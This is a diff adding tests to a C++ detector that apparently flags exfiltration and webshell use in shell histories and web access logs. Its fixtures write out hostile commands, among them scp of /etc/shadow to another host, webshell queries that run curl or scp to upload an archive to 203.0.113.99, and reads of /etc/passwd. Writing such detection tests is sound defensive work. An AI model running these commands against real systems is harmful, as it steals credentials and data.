@@ -141,6 +141,8 @@ private slots:
         QTest::newRow("a dump to some host") << QByteArray("scp shop.sql me@old.example.org:\n") << "old.example.org 2 0";
         QTest::newRow("a file to some host") << QByteArray("scp motd me@old.example.org:\n") << "old.example.org 1 0";
         QTest::newRow("a copy to the machine for copies") << QByteArray("rsync -a /srv/ backup@nas:/vol/\n") << "nas 1 0";
+        QTest::newRow("the hashes of all passwords, to a neighbour") << QByteArray("scp /etc/shadow me@10.0.0.9:\n") << "10.0.0.9 2 0";
+        QTest::newRow("a copy of all settings, to a neighbour") << QByteArray("scp -r /etc me@10.0.0.9:\n") << "10.0.0.9 1 0";
         QTest::newRow("a copy inside") << QByteArray("scp db.sql.gz backup.corp.internal:\n") << "backup.corp.internal 1 0";
     }
     void sent() {
@@ -531,6 +533,69 @@ private slots:
         for (const auto& f : fixture.detect("transfers")) {
             QCOMPARE(f.rule, std::string("exfiltration/transfer"));
             got += QStringLiteral("%1 %2").arg(QString::fromStdString(f.arguments.value("count", "")), QString::fromStdString(f.arguments.value("size", "")));
+        }
+        QCOMPARE(got, found);
+    }
+
+    // A second address that speaks to the shell once: it may be a scanner, or him.
+    void a_single_request_to_a_shell_data() {
+        QTest::addColumn<QByteArray>("log");
+        QTest::addColumn<QString>("found");  // to whom files are held
+        const std::string a = "198.51.100.7", b = "198.51.100.8";
+        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
+        const auto early = [](std::string line) { return line.replace(line.find("09:00:00"), 8, "08:10:00"); };
+        const std::string fetched = access_line(b, "/uploads/d.tgz", 200, 2'000'003);
+        std::string used;
+        for (const char* command : {"id", "ls+-la", "w", "cat+/etc/passwd"}) used += early(access_line(a, std::string("/s.php?c=") + command, 200, 300));
+        QTest::newRow("packs and fetches") << log(used + access_line(b, "/s.php?c=tar+czf+d.tgz+/srv", 200, 300) + fetched) << "198.51.100.8";
+        QTest::newRow("speaks as the shell's users do, and fetches") << log(used + access_line(b, "/s.php?c=id", 200, 300) + fetched) << "198.51.100.8";
+        QTest::newRow("fetches before it speaks") << log(used + early(fetched) + access_line(b, "/s.php?c=id", 200, 300)) << "";
+        QTest::newRow("a scanner's other parameter") << log(used + access_line(b, "/s.php?page=../../etc/passwd", 200, 300) + fetched) << "";
+        QTest::newRow("is refused") << log(used + access_line(b, "/s.php?c=id", 403, 300) + fetched) << "";
+        QTest::newRow("speaks to another page") << log(used + access_line(b, "/index.php?c=id", 200, 300) + fetched) << "";
+        QTest::newRow("fetches nothing") << log(used + access_line(b, "/s.php?c=id", 200, 300)) << "";
+    }
+    void a_single_request_to_a_shell() {
+        QFETCH(QByteArray, log);
+        QFETCH(QString, found);
+        test::CaseFixture fixture;
+        fixture.sql("INSERT INTO finding VALUES('f1', 'x', 'webshell/script', 1, 1, '/var/www/html/s.php', 3, 1, '{}', " + std::to_string(k_first_command) + ", 0, 0, NULL, NULL, 0, 0)");
+        use_webshell(fixture, log.toStdString());
+        QString got;
+        for (const auto& f : fixture.detect("transfers"))
+            if (f.rule == "exfiltration/transfer") got += QString::fromStdString(f.subject);
+        QCOMPARE(got, found);
+    }
+
+    // An access log has the command that was given in the query.
+    void commands_to_shells_data() {
+        QTest::addColumn<QString>("rule");
+        QTest::addColumn<QByteArray>("log");
+        QTest::addColumn<QString>("found");  // target severity confidence address
+        const std::string a = "198.51.100.7";
+        const auto one = [&](const std::string& request, int status = 200) { return QByteArray::fromStdString(access_line(a, request, status, 10)); };
+        const char* shell = "webshell/script";
+        QTest::newRow("curl") << shell << one("/s.php?c=curl+-F+f=@/tmp/d.tgz+http://203.0.113.99/u") << "203.0.113.99 3 1 198.51.100.7";
+        QTest::newRow("scp, encoded") << shell << one("/s.php?x=1&cmd=scp%20/tmp/d.tgz%20x@203.0.113.99:") << "203.0.113.99 3 1 198.51.100.7";
+        QTest::newRow("encoded twice") << shell << one("/s.php?c=curl%2520-T%2520/tmp/d.tgz%2520ftp%253A//203.0.113.99/") << "203.0.113.99 3 1 198.51.100.7";
+        QTest::newRow("to the network of the server") << shell << one("/s.php?c=scp+/tmp/d.tgz+x@10.0.0.9:") << "10.0.0.9 2 1 198.51.100.7";
+        QTest::newRow("refused") << shell << one("/s.php?c=scp+/tmp/d.tgz+x@203.0.113.99:", 404) << "";
+        QTest::newRow("fetches and sends nothing") << shell << one("/s.php?c=wget+http://203.0.113.99/x") << "";
+        QTest::newRow("a search on an infected page") << "webshell/appended" << one("/s.php?q=scp+/tmp/d.tgz+x@203.0.113.99:") << "203.0.113.99 2 0 198.51.100.7";
+        QTest::newRow("a search on another page") << shell << one("/wiki.php?q=scp+/tmp/d.tgz+x@203.0.113.99:") << "";
+    }
+    void commands_to_shells() {
+        QFETCH(QString, rule);
+        QFETCH(QByteArray, log);
+        QFETCH(QString, found);
+        test::CaseFixture fixture;
+        fixture.sql(QString("INSERT INTO finding VALUES('f1', 'x', '%1', 1, 1, '/var/www/html/s.php', 3, 1, '{}', %2, 0, 0, NULL, NULL, 0, 0)").arg(rule).arg(k_first_command).toStdString());
+        use_webshell(fixture, log.toStdString());
+        QString got;
+        for (const auto& f : fixture.detect("transfers")) {
+            QCOMPARE(f.rule, std::string("exfiltration/webshell_command"));
+            QCOMPARE(f.arguments["rests_on"].get<std::string>(), std::string("f1"));
+            got += QString::fromStdString(f.subject + " " + std::to_string(f.severity) + " " + std::to_string(f.confidence) + " " + f.items.at(0).key);
         }
         QCOMPARE(got, found);
     }
